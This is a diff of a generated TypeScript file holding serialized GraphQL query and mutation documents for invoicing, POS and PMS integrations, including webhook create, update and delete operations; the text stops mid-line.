+export const ErrOpportunitiesDocument = {"__meta__":{"hash":"2109cfcbe6ddfb7b458c637163f540158ce153431153cb08d2ca19d247c8b4e8"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ErrOpportunities"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"opportunities"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"first"},"value":{"kind":"IntValue","value":"2"}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"totalCount"}}]}}]}}]}}]}}]} as unknown as DocumentNode<ErrOpportunitiesQuery, ErrOpportunitiesQueryVariables>;
+export const ErrContactDocument = {"__meta__":{"hash":"4766aa6391d7c2a257ad12694fd635dce05370e5221848195c4747d987d0606d"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ErrContact"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"contact"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"contact"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"remoteId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"contact"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}}]}}]}}]}}]}}]} as unknown as DocumentNode<ErrContactQuery, ErrContactQueryVariables>;
+export const ErrModifiersDocument = {"__meta__":{"hash":"b57de3e84d6b00af9dc049bdcfc1db22e71eacb1fdc17a9c69fb33c564e8ae31"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ErrModifiers"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pos"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"modifiers"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"first"},"value":{"kind":"IntValue","value":"2"}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"totalCount"}}]}}]}}]}}]}}]} as unknown as DocumentNode<ErrModifiersQuery, ErrModifiersQueryVariables>;
+export const ErrCreateProductDocument = {"__meta__":{"hash":"b34e2dd89a25231f79564ad54ca2a890949cfad60e7afda1138359ae7215f4c1"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"ErrCreateProduct"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"CreateProductInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createProduct"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"product"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"name"}}]}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<ErrCreateProductMutation, ErrCreateProductMutationVariables>;
+export const ErrCreateWebhookDocument = {"__meta__":{"hash":"a494472d371f9445b01cc094cce7ce33f17ad6f41e737a305b5db9a38326ccd4"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"ErrCreateWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"CreateWebhookInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"webhook"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<ErrCreateWebhookMutation, ErrCreateWebhookMutationVariables>;
 export const ErrWebhookDocument = {"__meta__":{"hash":"b5be311243ac3f0de5f7c69fc7c7dac140f2c6b945654473b78aafc073a0fe04"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ErrWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"webhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]} as unknown as DocumentNode<ErrWebhookQuery, ErrWebhookQueryVariables>;
-export const ErrUpdateWebhookDocument = {"__meta__":{"hash":"934e11f0f58c58921155737f107dcf49ce45c0bbca86d47937684a60bcf3c470"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"ErrUpdateWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"UpdateWebhookInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"updateWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}},{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]} as unknown as DocumentNode<ErrUpdateWebhookMutation, ErrUpdateWebhookMutationVariables>;
-export const ErrDeleteWebhookDocument = {"__meta__":{"hash":"02c38b57b15c8c82b7c37e552289929ecc64c152204cb2221ff66d9b6538b431"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"ErrDeleteWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"deleteWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}]}]}}]} as unknown as DocumentNode<ErrDeleteWebhookMutation, ErrDeleteWebhookMutationVariables>;
+export const ErrUpdateWebhookDocument = {"__meta__":{"hash":"bc35eb4965a7f63441e9b9271376adbc28440fe448e4454673db4bbf6822011b"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"ErrUpdateWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"UpdateWebhookInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"updateWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"webhook"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<ErrUpdateWebhookMutation, ErrUpdateWebhookMutationVariables>;
+export const ErrDeleteWebhookDocument = {"__meta__":{"hash":"aa8e329b4377044bbf900eec73e0f4fa50c65a9cbc10dcf3bd99ee2473ef22cf"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"ErrDeleteWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"deleteWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"ObjectValue","fields":[{"kind":"ObjectField","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}]}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"deletedId"}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<ErrDeleteWebhookMutation, ErrDeleteWebhookMutationVariables>;
 export const ErrIntegrationsDocument = {"__meta__":{"hash":"b619c348ab6676a721278610b861d5a4861dbd611803c436c4984b55dfaf042b"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ErrIntegrations"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"integrations"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"integrationId"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"operationsCoverage"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"operation"}},{"kind":"Field","name":{"kind":"Name","value":"status"}}]}}]}}]}}]} as unknown as DocumentNode<ErrIntegrationsQuery, ErrIntegrationsQueryVariables>;
-export const ParityTaxesDocument = {"__meta__":{"hash":"7442fb47bdbf9b4973f7416a1fb1d383f6ed2979ce695b962fe3d98f7c448311"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ParityTaxes"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"page"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"size"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxes"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"page"},"value":{"kind":"Variable","name":{"kind":"Name","value":"page"}}},{"kind":"Argument","name":{"kind":"Name","value":"size"},"value":{"kind":"Variable","name":{"kind":"Name","value":"size"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"label"}},{"kind":"Field","name":{"kind":"Name","value":"rate"}},{"kind":"Field","name":{"kind":"Name","value":"type"}},{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"scope"}},{"kind":"Field","name":{"kind":"Name","value":"active"}}]}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"page"}},{"kind":"Field","name":{"kind":"Name","value":"size"}}]}}]}}]}}]}}]} as unknown as DocumentNode<ParityTaxesQuery, ParityTaxesQueryVariables>;
-export const ParityOpportunitiesDocument = {"__meta__":{"hash":"76eef7aeb66c0a999543121241acddd4003b067d3ac24e89816b3392b46d6410"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ParityOpportunities"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"page"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"size"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"opportunities"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"page"},"value":{"kind":"Variable","name":{"kind":"Name","value":"page"}}},{"kind":"Argument","name":{"kind":"Name","value":"size"},"value":{"kind":"Variable","name":{"kind":"Name","value":"size"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"probability"}},{"kind":"Field","name":{"kind":"Name","value":"status"}},{"kind":"Field","name":{"kind":"Name","value":"partnerId"}},{"kind":"Field","name":{"kind":"Name","value":"comment"}},{"kind":"Field","name":{"kind":"Name","value":"currency"}},{"kind":"Field","name":{"kind":"Name","value":"description"}},{"kind":"Field","name":{"kind":"Name","value":"pipeStatus"}},{"kind":"Field","name":{"kind":"Name","value":"pipeName"}},{"kind":"Field","name":{"kind":"Name","value":"createdDate"}},{"kind":"Field","name":{"kind":"Name","value":"dueDate"}},{"kind":"Field","name":{"kind":"Name","value":"endDate"}},{"kind":"Field","name":{"kind":"Name","value":"isWon"}},{"kind":"Field","name":{"kind":"Name","value":"ownerRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"model"}},{"kind":"Field","name":{"kind":"Name","value":"name"}}]}}]}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"page"}},{"kind":"Field","name":{"kind":"Name","value":"size"}}]}}]}}]}}]}}]} as unknown as DocumentNode<ParityOpportunitiesQuery, ParityOpportunitiesQueryVariables>;
-export const ParityContactDocument = {"__meta__":{"hash":"0b3eb3d766ecf2c4aeb5840569198b2be04fb48798af0ae890ed3b9c6e3d4c2c"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ParityContact"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"contact"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"contact"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"contact"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"isProspect"}},{"kind":"Field","name":{"kind":"Name","value":"isCustomer"}},{"kind":"Field","name":{"kind":"Name","value":"isSupplier"}},{"kind":"Field","name":{"kind":"Name","value":"isCompany"}},{"kind":"Field","name":{"kind":"Name","value":"companyName"}},{"kind":"Field","name":{"kind":"Name","value":"firstName"}},{"kind":"Field","name":{"kind":"Name","value":"lastName"}},{"kind":"Field","name":{"kind":"Name","value":"email"}},{"kind":"Field","name":{"kind":"Name","value":"phone"}},{"kind":"Field","name":{"kind":"Name","value":"mobile"}},{"kind":"Field","name":{"kind":"Name","value":"companyId"}},{"kind":"Field","name":{"kind":"Name","value":"vat"}},{"kind":"Field","name":{"kind":"Name","value":"companyNumber"}},{"kind":"Field","name":{"kind":"Name","value":"currency"}},{"kind":"Field","name":{"kind":"Name","value":"language"}},{"kind":"Field","name":{"kind":"Name","value":"comment"}},{"kind":"Field","name":{"kind":"Name","value":"customerAccountNumber"}},{"kind":"Field","name":{"kind":"Name","value":"supplierAccountNumber"}},{"kind":"Field","name":{"kind":"Name","value":"birthdate"}},{"kind":"Field","name":{"kind":"Name","value":"gender"}},{"kind":"Field","name":{"kind":"Name","value":"addresses"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"addressType"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"phone"}},{"kind":"Field","name":{"kind":"Name","value":"mobile"}},{"kind":"Field","name":{"kind":"Name","value":"email"}},{"kind":"Field","name":{"kind":"Name","value":"street"}},{"kind":"Field","name":{"kind":"Name","value":"number"}},{"kind":"Field","name":{"kind":"Name","value":"box"}},{"kind":"Field","name":{"kind":"Name","value":"city"}},{"kind":"Field","name":{"kind":"Name","value":"postalCode"}},{"kind":"Field","name":{"kind":"Name","value":"country"}}]}},{"kind":"Field","name":{"kind":"Name","value":"externalReference"}}]}}]}}]}}]}}]} as unknown as DocumentNode<ParityContactQuery, ParityContactQueryVariables>;
-export const ParityModifiersDocument = {"__meta__":{"hash":"393c9f0ac7c21473813c68559a49d388a7734069b3c8e724f7ccfcb831a396cf"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ParityModifiers"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"page"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"size"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"location"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pos"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"modifiers"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"page"},"value":{"kind":"Variable","name":{"kind":"Name","value":"page"}}},{"kind":"Argument","name":{"kind":"Name","value":"size"},"value":{"kind":"Variable","name":{"kind":"Name","value":"size"}}},{"kind":"Argument","name":{"kind":"Name","value":"locationId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"location"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"options"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"price"}}]}}]}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"page"}},{"kind":"Field","name":{"kind":"Name","value":"size"}}]}}]}}]}}]}}]} as unknown as DocumentNode<ParityModifiersQuery, ParityModifiersQueryVariables>;
-export const ParityPmsTaxesDocument = {"__meta__":{"hash":"ed0e358996ef643e1dcad7ecebf596dc4a5a62c75b360ec14ea4ca90a560f50f"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ParityPmsTaxes"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"page"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"size"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pms"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxes"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"page"},"value":{"kind":"Variable","name":{"kind":"Name","value":"page"}}},{"kind":"Argument","name":{"kind":"Name","value":"size"},"value":{"kind":"Variable","name":{"kind":"Name","value":"size"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"label"}},{"kind":"Field","name":{"kind":"Name","value":"rate"}},{"kind":"Field","name":{"kind":"Name","value":"isCityTax"}}]}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"page"}},{"kind":"Field","name":{"kind":"Name","value":"size"}}]}}]}}]}}]}}]} as unknown as DocumentNode<ParityPmsTaxesQuery, ParityPmsTaxesQueryVariables>;
-export const ParityPmsOrdersDocument = {"__meta__":{"hash":"fccec3504e3099635e6a1862442d446c69b41ba548ff9b3c0218fbca3e25c2a7"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ParityPmsOrders"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"page"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"size"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"state"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"PmsOrderState"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"from"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Date"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"to"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Date"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"location"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pms"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"orders"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"page"},"value":{"kind":"Variable","name":{"kind":"Name","value":"page"}}},{"kind":"Argument","name":{"kind":"Name","value":"size"},"value":{"kind":"Variable","name":{"kind":"Name","value":"size"}}},{"kind":"Argument","name":{"kind":"Name","value":"state"},"value":{"kind":"Variable","name":{"kind":"Name","value":"state"}}},{"kind":"Argument","name":{"kind":"Name","value":"dateFrom"},"value":{"kind":"Variable","name":{"kind":"Name","value":"from"}}},{"kind":"Argument","name":{"kind":"Name","value":"dateTo"},"value":{"kind":"Variable","name":{"kind":"Name","value":"to"}}},{"kind":"Argument","name":{"kind":"Name","value":"locationId"},"value":{"kind":"Variable","name":{"kind":"